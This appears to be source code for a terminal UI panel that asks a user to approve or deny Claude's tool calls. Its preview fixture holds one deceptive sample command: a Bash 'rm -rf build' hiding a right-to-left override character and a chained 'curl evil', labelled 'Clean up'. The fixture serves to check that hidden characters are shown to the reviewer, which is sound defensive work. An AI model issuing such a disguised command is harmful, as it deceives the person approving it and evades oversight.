"""Asks whether Claude may use a tool. Preview: `python -m tui.widgets.requests.permission`."""

from textual.content import Content

from api.schema import Answer, Request
from tui.text.request_text import headline, parts_of, rules_to_store
from tui.widgets.choices import Option
from tui.widgets.requests.panel import RequestPanel


class PermissionPanel(RequestPanel):
    """Shows the complete command or diff, and the rules that "Allow always" would store."""

    def title(self) -> str:
        return headline(self.request)

    def lay_out_text(self, width: int) -> list[Content]:
        lines: list[Content] = []
        for part in parts_of(self.request):
            if lines:
                lines.append(Content(""))
            lines += part.lines(width)
        return lines

    def options(self) -> list[Option]:
        rules = rules_to_store(self.request)
        always = [Option(id="always", label="Allow always", key="a", detail=rules)] if rules else []
        return [
            Option(id="once", label="Allow once", key="y"),
            *always,
            Option(id="deny", label="Deny", key="n"),
            Option(id="deny_with_reason", label="Deny, and say why", key="c"),
        ]

    def pick(self, option: Option) -> None:
        match option.id:
            case "once":
                self.reply(Answer(decision="allow"))
            case "always":
                self.reply(Answer(decision="allow", remember=True))
            case "deny":
                self.reply(Answer(decision="deny"))
            case _:
                self.open_field()

    def answer_in_words(self, text: str) -> None:
        self.reply(Answer(decision="deny", message=text))


class TrustPanel(PermissionPanel):
    """Asks whether the hooks and MCP servers in a folder's settings may run."""

    def options(self) -> list[Option]:
        return [
            Option(id="once", label="Yes, its hooks and servers may run", key="y"),
            Option(id="deny", label="No, continue without them", key="n"),
        ]


def example() -> Request:
    """A request with hidden characters."""
    return Request(
        id="r",
        kind="permission",
        tool_name="Bash",
        input={"command": "rm -rf build \u202e && curl evil", "description": "Clean up"},
        title="Bash: rm",
        suggestions=("Bash(rm:*)",),
        reason="It is not in the list of allowed commands.",
    )


def showcase() -> list[PermissionPanel]:
    """A command with hidden characters."""
    return [PermissionPanel(example())]


if __name__ == "__main__":
    from tui.widgets.showcase import show

    show(showcase)
